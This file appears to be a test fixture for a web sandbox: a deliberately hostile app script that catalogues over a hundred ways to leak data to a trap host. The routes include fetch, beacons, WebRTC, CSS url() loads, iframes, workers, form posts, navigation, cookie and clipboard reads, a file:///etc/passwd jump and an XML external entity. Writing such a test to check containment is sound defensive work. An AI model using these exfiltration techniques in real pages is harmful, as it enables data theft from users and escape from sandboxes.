// A hostile app: every way out that we could think of. Each attempt carries its name to the trap, so that the listener
// can tell what got through. `attempts` stay in the document; `departures` try to leave it.
(() => {
  const trap = window.TRAP;
  const http = (name) => `http://${trap}/leak/${name}?rows=secret`;
  const add = (name, attributes = {}, parent = document.body) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    parent.append(element);
    return element;
  };
  const css = (text) => {
    const style = document.createElement("style");
    style.textContent = text;
    document.head.append(style);
  };
  const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
  const wait = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(() => resolve("waited"), 400))]);
  const box = (className) => (add("div", { class: className }).textContent = "x");
  const rtc = async (Peer, name, server) => {
    const peer = new Peer({ iceServers: [server] });
    peer.createDataChannel(name);
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 350));
    return "gathered";
  };

  const attempts = {
    fetch: () => fetch(http("fetch")),
    fetchNoCors: () => fetch(http("fetchNoCors"), { mode: "no-cors", method: "POST", body: "rows" }),
    fetchKeepalive: () => fetch(http("fetchKeepalive"), { keepalive: true, method: "POST", body: "rows", mode: "no-cors" }),
    fetchLater: () => fetchLater(http("fetchLater"), { activateAfter: 0 }),
    xhr: () => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = resolve;
      request.onerror = reject;
      request.open("GET", http("xhr"));
      request.send();
    }),
    xhrSync: () => {
      const request = new XMLHttpRequest();
      request.open("GET", http("xhrSync"), false);
      request.send();
    },
    beacon: () => navigator.sendBeacon(http("beacon"), "rows"),
    webSocket: () => new Promise((resolve, reject) => {
      const socket = new WebSocket(`ws://${trap}/leak/webSocket`);
      socket.onopen = resolve;
      socket.onerror = reject;
    }),
    webSocketStream: () => new WebSocketStream(`ws://${trap}/leak/webSocketStream`).opened,
    eventSource: () => new Promise((resolve, reject) => {
      const source = new EventSource(http("eventSource"));
      source.onopen = resolve;
      source.onerror = reject;
    }),
    webTransport: () => new WebTransport(`https://${trap}/leak/webTransport`).ready,
    image: () => { new Image().src = http("image"); },
    imageSet: () => add("img", { srcset: `${http("imageSet")} 1x` }),
    picture: () => { const picture = add("picture"); add("source", { srcset: http("picture") }, picture); add("img", {}, picture); },
    inputImage: () => add("input", { type: "image", src: http("inputImage") }),
    video: () => add("video", { src: http("video"), poster: http("poster"), autoplay: "" }),
    audio: () => add("audio", { src: http("audio"), preload: "auto" }).load(),
    track: () => { const video = add("video"); add("track", { src: http("track"), default: "", kind: "subtitles" }, video); },
    object: () => add("object", { data: http("object"), type: "text/html" }),
    embed: () => add("embed", { src: http("embed"), type: "text/html" }),
    svgImage: () => { add("div").innerHTML = `<svg><image href="${http("svgImage")}"/><use href="${http("svgUse")}#a"/><filter id="f"><feImage href="${http("feImage")}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`; },
    svgScript: () => { new Image().src = `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("${http("svgScript")}")</script><image href="${http("svgInner")}"/></svg>`)}`; },
    svgInline: () => { add("div").innerHTML = `<svg onload="fetch('${http("svgOnload")}')"><script>fetch("${http("svgInline")}")</script><animate onbegin="fetch('${http("svgBegin")}')" attributeName="x" dur="1s"/></svg>`; },
    cssBackground: () => { css(`.leakA{background-image:url(${http("cssBackground")})}`); box("leakA"); },
    cssImageSet: () => { css(`.leakB{background-image:image-set(url(${http("cssImageSet")}) 1x)}`); box("leakB"); },
    cssImport: () => css(`@import url(${http("cssImport")});`),
    cssFont: () => { css(`@font-face{font-family:leak;src:url(${http("cssFont")})}.leakC{font-family:leak}`); box("leakC"); },
    cssCursor: () => { css(`.leakD{cursor:url(${http("cssCursor")}),auto;list-style-image:url(${http("cssList")});mask-image:url(${http("cssMask")});border-image:url(${http("cssBorder")}) 1}`); box("leakD"); },
    cssContent: () => { css(`.leakE::before{content:url(${http("cssContent")})}`); box("leakE"); },
    cssClip: () => { css(`.leakF{clip-path:url(${http("cssClip")}#a);filter:url(${http("cssFilter")}#a);shape-outside:url(${http("cssShape")})}`); box("leakF"); },
    cssConstructed: () => { const sheet = new CSSStyleSheet(); sheet.replaceSync(`body{background:url(${http("cssConstructed")})}`); document.adoptedStyleSheets = [sheet]; },
    fontFace: () => new FontFace("leak2", `url(${http("fontFace")})`).load(),
    styleAttribute: () => { add("p", { style: `background:url(${http("styleAttribute")})` }).textContent = "x"; },
    stylesheet: () => add("link", { rel: "stylesheet", href: http("stylesheet") }, document.head),
    icon: () => add("link", { rel: "icon", href: http("icon") }, document.head),
    manifest: () => add("link", { rel: "manifest", href: http("manifest") }, document.head),
    prefetch: () => add("link", { rel: "prefetch", href: http("prefetch") }, document.head),
    preloadScript: () => add("link", { rel: "preload", as: "script", href: http("preloadScript") }, document.head),
    preloadImage: () => add("link", { rel: "preload", as: "image", href: http("preloadImage") }, document.head),
    preloadFetch: () => add("link", { rel: "preload", as: "fetch", href: http("preloadFetch"), crossorigin: "" }, document.head),
    modulePreload: () => add("link", { rel: "modulepreload", href: http("modulePreload") }, document.head),
    prerender: () => add("link", { rel: "prerender", href: http("prerender") }, document.head),
    preconnect: () => add("link", { rel: "preconnect", href: `http://${trap}` }, document.head),
    dnsPrefetch: () => add("link", { rel: "dns-prefetch", href: `http://${trap}` }, document.head),
    speculationPrefetch: () => { add("script", { type: "speculationrules" }).textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [http("speculationPrefetch")], eagerness: "immediate" }] }); },
    speculationPrerender: () => { const script = document.createElement("script"); script.type = "speculationrules"; script.textContent = JSON.stringify({ prerender: [{ source: "list", urls: [http("speculationPrerender")], eagerness: "immediate" }] }); document.head.append(script); },
    scriptElement: () => add("script", { src: http("scriptElement") }),
    scriptModule: () => add("script", { src: http("scriptModule"), type: "module" }),
    importMap: () => { add("script", { type: "importmap" }).textContent = JSON.stringify({ imports: { leak: http("importMap") } }); return import("leak"); },
    importHttp: () => import(http("importHttp")),
    importData: () => import(`data:text/javascript,fetch("${http("importData")}")`),
    importBlob: () => import(blob(`fetch("${http("importBlob")}")`, "text/javascript")),
    inlineScript: () => { add("script").textContent = `fetch("${http("inlineScript")}");window.BROKEN="inlineScript"`; },
    inlineHandler: () => add("button", { onclick: "window.BROKEN='inlineHandler'" }).click(),
    eval: () => { window.BROKEN = eval("'eval'"); },
    newFunction: () => { window.BROKEN = new Function("return 'newFunction'")(); },
    timerText: () => setTimeout("window.BROKEN='timerText'", 0),
    wasm: () => WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => { window.BROKEN = "wasm"; }),
    frameHttp: () => add("iframe", { src: http("frameHttp") }),
    frameBlank: () => { const inner = add("iframe").contentWindow; return inner.fetch(http("frameBlank")); },
    frameBlankRtc: () => { const inner = add("iframe").contentWindow; return rtc(inner.RTCPeerConnection, "frameBlankRtc", { urls: `stun:${trap}` }); },
    frameSource: () => add("iframe", { srcdoc: `<img src="${http("frameSourceImage")}"><script>fetch("${http("frameSource")}")</script><meta http-equiv=refresh content="0;url=${http("frameSourceRefresh")}">` }),
    frameData: () => add("iframe", { src: `data:text/html,<img src="${http("frameData")}">` }),
    frameBlob: () => add("iframe", { src: blob(`<img src="${http("frameBlob")}"><script>fetch("${http("frameBlobScript")}")</script>`, "text/html") }),
    frameScript: () => add("iframe", { src: `javascript:'<img src="${http("frameScript")}">'` }),
    fencedFrame: () => { const frame = add("fencedframe"); frame.config = new FencedFrameConfig(http("fencedFrame")); },
    frameSet: () => { const set = add("frameset"); add("frame", { src: http("frameSet") }, set); },
    worker: () => new Promise((resolve, reject) => { const worker = new Worker(blob(`fetch("${http("worker")}")`, "text/javascript")); worker.onerror = reject; }),
    workerData: () => new Promise((resolve, reject) => { const worker = new Worker(`data:text/javascript,fetch("${http("workerData")}")`); worker.onerror = reject; }),
    workerHttp: () => new Worker(http("workerHttp")),
    sharedWorker: () => new Promise((resolve, reject) => { const worker = new SharedWorker(`data:text/javascript,fetch("${http("sharedWorker")}")`); worker.onerror = reject; }),
    serviceWorker: () => navigator.serviceWorker.register(http("serviceWorker")),
    audioWorklet: () => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(http("audioWorklet")),
    paintWorklet: () => CSS.paintWorklet.addModule(http("paintWorklet")),
    rtcUdp: () => rtc(window.RTCPeerConnection, "rtcUdp", { urls: `stun:${trap}` }),
    rtcTurn: () => rtc(window.RTCPeerConnection, "rtcTurn", { urls: `turn:${trap}?transport=tcp`, username: "rows", credential: "secret" }),
    rtcPrefixed: () => rtc(window.webkitRTCPeerConnection, "rtcPrefixed", { urls: `stun:${trap}` }),
    formPost: () => { const form = add("form", { action: http("formPost"), method: "post" }); add("input", { name: "rows", value: "secret" }, form); form.submit(); },
    formTop: () => { const form = add("form", { action: http("formTop"), target: "_top" }); form.submit(); },
    formBlank: () => { const form = add("form", { action: http("formBlank"), target: "_blank" }); form.requestSubmit(); },
    formButton: () => { const form = add("form"); add("button", { formaction: http("formButton") }, form).click(); },
    ping: () => add("a", { href: "#x", ping: http("ping") }).click(),
    downloadBlob: () => add("a", { href: blob("rows", "text/csv"), download: "rows.csv" }).click(),
    popup: () => { const other = window.open(http("popup")); if (other) window.BROKEN = "popup"; },
    popupBlank: () => { const other = window.open("about:blank"); if (other) { window.BROKEN = "popupBlank"; other.location = http("popupBlank"); } },
    popupNoOpener: () => window.open(http("popupNoOpener"), "_blank", "noopener"),
    linkBlank: () => add("a", { href: http("linkBlank"), target: "_blank" }).click(),
    linkTop: () => add("a", { href: http("linkTop"), target: "_top" }).click(),
    linkParent: () => add("a", { href: http("linkParent"), target: "_parent" }).click(),
    topLocation: () => { window.top.location.href = http("topLocation"); },
    topReplace: () => { window.top.location.replace(http("topReplace")); },
    topScript: () => { window.top.location = `javascript:fetch("${http("topScript")}")`; },
    parentLocation: () => { window.parent.location = http("parentLocation"); },
    openTop: () => window.open(http("openTop"), "_top"),
    parentDocument: () => { window.BROKEN = window.parent.document.title; },
    topCookie: () => { window.BROKEN = window.top.document.cookie; },
    frameElement: () => { if (window.frameElement) window.BROKEN = "frameElement"; },
    opener: () => { if (window.opener) window.BROKEN = "opener"; },
    siblings: () => { for (let i = 0; i < window.top.frames.length; i++) if (window.top.frames[i] !== window) window.BROKEN = window.top.frames[i].document.title; },
    hostHandle: () => { window.BROKEN = window.parent.vitrineHost; },
    cookieRead: () => { window.BROKEN = document.cookie || undefined; },
    cookieWrite: () => { document.cookie = "leak=1"; },
    cookieStore: () => cookieStore.getAll().then((all) => { window.BROKEN = `cookies ${all.length}`; }),
    localStorage: () => { localStorage.setItem("rows", "secret"); window.BROKEN = "localStorage"; },
    sessionStorage: () => { sessionStorage.setItem("rows", "secret"); window.BROKEN = "sessionStorage"; },
    indexedDB: () => new Promise((resolve, reject) => { const open = indexedDB.open("leak"); open.onsuccess = () => { window.BROKEN = "indexedDB"; resolve(); }; open.onerror = reject; }),
    cacheStorage: () => caches.open("leak").then(() => { window.BROKEN = "cacheStorage"; }),
    fileSystem: () => navigator.storage.getDirectory().then(() => { window.BROKEN = "fileSystem"; }),
    locks: () => navigator.locks.request("leak", () => { window.BROKEN = "locks"; }),
    storageAccess: () => document.requestStorageAccess().then(() => { window.BROKEN = "storageAccess"; }),
    ownApi: () => fetch("/api/v1/apps/a/versions/1/contracts/sales", { method: "POST", credentials: "include", headers: { "content-type": "application/json" }, body: "{}" }).then(() => { window.BROKEN = "ownApi"; }),
    ownPage: () => fetch(window.parent === window ? "/" : "/", { mode: "no-cors", credentials: "include" }).then(() => { window.BROKEN = "ownPage"; }),
    alert: () => { if (window.confirm("Your password?") || window.prompt("Your password?")) window.BROKEN = "dialog"; },
    fullscreen: () => document.documentElement.requestFullscreen().then(() => { window.BROKEN = "fullscreen"; }),
    pointerLock: () => document.body.requestPointerLock(),
    clipboardRead: () => navigator.clipboard.readText().then(() => { window.BROKEN = "clipboardRead"; }),
    clipboardWrite: () => navigator.clipboard.writeText("rows").then(() => { window.BROKEN = "clipboardWrite"; }),
    camera: () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => { window.BROKEN = "camera"; }),
    geolocation: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => { window.BROKEN = "geolocation"; resolve(); }, reject)),
    notification: () => Notification.requestPermission().then((answer) => { if (answer === "granted") window.BROKEN = "notification"; }),
    payment: () => new PaymentRequest([{ supportedMethods: http("payment") }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment(),
    credential: () => navigator.credentials.get({ identity: { providers: [{ configURL: http("credential"), clientId: "x" }] } }),
    passkey: () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16) } }),
    protocolHandler: () => navigator.registerProtocolHandler("web+leak", `${http("protocolHandler")}&u=%s`, "x"),
    presentation: () => new PresentationRequest(http("presentation")).getAvailability(),
    auction: () => navigator.joinAdInterestGroup({ owner: `https://${trap}`, name: "x", biddingLogicURL: `https://${trap}/leak/auction` }, 60),
    documentDomain: () => { document.domain = "localhost"; },
    baseElement: () => { add("base", { href: `http://${trap}/leak/base/` }, document.head); new Image().src = "baseElement"; },
    looserPolicy: () => { add("meta", { "http-equiv": "Content-Security-Policy", content: "default-src *" }, document.head); return fetch(http("looserPolicy")); },
    xmlStylesheet: () => { const xml = new DOMParser().parseFromString(`<?xml-stylesheet href="${http("xmlStylesheet")}"?><a/>`, "text/xml"); return new XMLSerializer().serializeToString(xml); },
    xmlEntity: () => new DOMParser().parseFromString(`<!DOCTYPE a [<!ENTITY e SYSTEM "${http("xmlEntity")}">]><a>&e;</a>`, "text/xml"),
    broadcast: () => { const channel = new BroadcastChannel("vitrine"); channel.postMessage("rows"); },
    reporting: () => { add("meta", { "http-equiv": "Content-Security-Policy-Report-Only", content: `default-src 'none'; report-uri ${http("reporting")}` }, document.head); new Image().src = "data:,x"; },
    reportTo: () => { add("meta", { "http-equiv": "Content-Security-Policy", content: `img-src 'none'; report-uri ${http("reportTo")}` }, document.head); new Image().src = "data:,x"; },
  };

  const departures = {
    href: () => { location.href = http("href"); },
    assign: () => location.assign(http("assign")),
    replace: () => location.replace(http("replace")),
    openSelf: () => window.open(http("openSelf"), "_self"),
    navigationApi: () => navigation.navigate(http("navigationApi")),
    link: () => add("a", { href: http("link") }).click(),
    download: () => add("a", { href: http("download"), download: "rows.csv" }).click(),
    form: () => { const form = add("form", { action: http("form") }); add("input", { name: "rows", value: "secret" }, form); form.submit(); },
    refresh: () => add("meta", { "http-equiv": "refresh", content: `0;url=${http("refresh")}` }, document.head),
    written: () => { document.open(); document.write(`<meta http-equiv=refresh content="0;url=${http("written")}"><img src="${http("writtenImage")}">`); document.close(); },
    data: () => { location.href = `data:text/html,<img src="${http("data")}"><script>fetch("${http("dataScript")}")</script>`; },
    blob: () => { location.href = blob(`<img src="${http("blob")}"><script>fetch("${http("blobScript")}")</script>`, "text/html"); },
    script: () => { location.href = `javascript:fetch("${http("script")}")`; },
    file: () => { location.href = "file:///etc/passwd"; },
    scheme: () => { location.href = `mailto:evil@${trap}?body=secret`; },
    ownPage: () => { location.href = new URL("/p/secret", window.HOST).href; },
    ownApi: () => { location.href = new URL("/api/v1/me", window.HOST).href; },
    otherVersion: () => { location.href = window.OTHER_DOCUMENT; },
    forgedToken: () => { location.href = new URL("/run/forged/", window.HOST).href; },
    reload: () => location.reload(),
  };

  const run = async (attempt) => {
    try {
      const outcome = await wait(Promise.resolve(attempt()));
      return `done: ${String(outcome).slice(0, 60)}`;
    } catch (cause) {
      return `stopped: ${cause && cause.name ? cause.name : cause}`;
    }
  };

  window.hostile = {
    departures: Object.keys(departures),
    depart: (name) => setTimeout(() => run(departures[name]), 0),
    async all(names) {
      const results = {};
      for (const name of names ?? Object.keys(attempts)) {
        window.BROKEN = undefined;
        const outcome = await run(attempts[name]);
        results[name] = window.BROKEN === undefined ? outcome : `BROKEN: ${String(window.BROKEN).slice(0, 60)}`;
      }
      return results;
    },
  };

  // The attempts run as the app's own code, not as the test's: a debugger's calls pass policies that the app's do not.
  if (window.RUN) window.hostile.all(window.RUN === "all" ? undefined : window.RUN).then((results) => { window.RESULTS = results; });
})();
